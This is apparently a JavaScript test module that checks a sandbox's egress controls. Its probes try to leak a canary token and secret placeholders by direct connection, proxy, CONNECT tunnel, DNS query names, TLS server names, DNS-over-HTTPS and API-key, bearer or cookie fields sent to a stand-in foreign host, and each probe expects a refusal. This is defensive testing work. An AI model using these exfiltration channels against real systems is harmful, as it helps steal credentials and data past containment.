// Getting data out: to a server on the host that only waits to be reached, and through the names and fields that leave a
// cage in other systems. The host looks afterwards at what that server has seen; it must be nothing.
import { egressAnswers, knock, MARK, nameFor, NOBODY, request, send } from './probe-kit.mjs';
import { ask, datagram, isSynthetic } from './probe-dns.mjs';

const REFUSED =
  /^(4\d\d <(address|authority|malformed|default-deny|none|placeholder|metadata)>|closed|refused before a word: .*)$/;
const NO_ANSWER = /^(no answer|error [A-Z]+)$/;

export default function exfiltration({ canary, mode, secrets }) {
  const { port, addresses, hostname } = canary;
  const byAddress = addresses.flatMap((address) => {
    const literal = address.includes(':') ? `[${address}]` : address;
    const to = `${literal}:${port}`;
    return [
      {
        id: `canary-direct-${address}`,
        quick: true,
        expected: 'a server of the host is not reached by its address',
        attempt: () => knock(address, port),
        passes: /^(ECONNREFUSED|EADDRNOTAVAIL|ENETUNREACH|EHOSTUNREACH|EINVAL)$/,
        control: egressAnswers(),
      },
      {
        id: `canary-datagram-${address}`,
        expected: 'nor by a datagram',
        attempt: async () => {
          const answer = await datagram(address, port, Buffer.from(canary.token));
          return typeof answer === 'string' ? answer : 'answered';
        },
        passes: NO_ANSWER,
        control: egressAnswers(),
      },
      {
        id: `canary-proxy-${address}`,
        expected: 'nor through the proxy',
        attempt: () => send('proxy', request({ target: `http://${to}${MARK}canary`, host: to })),
        passes: REFUSED,
        control: egressAnswers(),
      },
      {
        id: `canary-connect-${address}`,
        expected: 'nor through CONNECT',
        attempt: () =>
          send(
            'proxy',
            `CONNECT ${to} HTTP/1.1\r\nHost: ${to}\r\n\r\n${request({ target: `${MARK}canary`, host: to })}`,
          ),
        // CONNECT itself is answered, so that the refusal of what is asked inside can be read.
        passes: /^(200 \+ )?4\d\d <|^(200|closed)$/,
        control: egressAnswers('tunnel'),
      },
      {
        id: `canary-host-${address}`,
        expected: 'nor by a Host header on another connection',
        attempt: () => send('plain', request({ target: `${MARK}canary`, host: to })),
        passes: REFUSED,
        control: egressAnswers(),
      },
    ];
  });
  const named =
    mode === 'ask' || mode === 'learn' ? [] : ['localhost', hostname, nameFor('canary'), 'host.docker.internal'];
  return [
    ...byAddress,
    ...named.map((name) => ({
      id: `canary-name-${name}`,
      expected: 'nor by a name',
      attempt: () => send('proxy', request({ target: `http://${name}:${port}${MARK}canary`, host: `${name}:${port}` })),
      passes: REFUSED,
      control: egressAnswers(),
    })),
    {
      id: 'data-in-path',
      expected: 'data in a path to nobody’s address is refused',
      attempt: () => send('plain', request({ target: `${MARK}${Buffer.from(canary.token).toString('hex')}` })),
      passes: REFUSED,
      control: egressAnswers(),
    },
    {
      id: 'data-in-name',
      expected: 'data in a name is answered out of thin air',
      attempt: () => ask('127.0.0.1', `${canary.token.slice(0, 60)}.${nameFor('exfiltration')}`),
      passes: isSynthetic,
    },
    {
      id: 'data-in-server-name',
      expected: 'data in a TLS server name ends at the egress',
      attempt: () =>
        send('tls', request({ host: nameFor('other') }), { servername: nameFor(canary.token.slice(0, 60)) }),
      passes: REFUSED,
      control: egressAnswers('tls'),
    },
    ...['1.1.1.1', '8.8.8.8'].map((server) => ({
      id: `dns-over-https-${server}`,
      expected: 'a resolver of names over HTTPS is refused like any address',
      attempt: () =>
        send(
          'tls',
          request({
            target: '/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE',
            host: server,
            fields: ['Accept: application/dns-message'],
          }),
          { to: server },
        ),
      passes: REFUSED,
      control: egressAnswers('tls'),
    })),
    ...secrets.flatMap(({ env, placeholder }) =>
      Object.entries({
        header: { fields: [`X-Api-Key: ${placeholder}`] },
        bearer: { fields: [`Authorization: Bearer ${placeholder}`] },
        query: { target: `${MARK}placeholder?key=${encodeURIComponent(placeholder)}` },
        cookie: { fields: [`Cookie: key=${placeholder}`] },
      }).map(([place, parts]) => ({
        id: `placeholder-${env}-${place}`,
        expected: 'a placeholder to a foreign host is refused, and its value is not in the answer',
        attempt: () => send('plain', request({ target: `${MARK}placeholder`, host: NOBODY, ...parts })),
        passes: REFUSED,
        control: egressAnswers(),
      })),
    ),
  ];
}
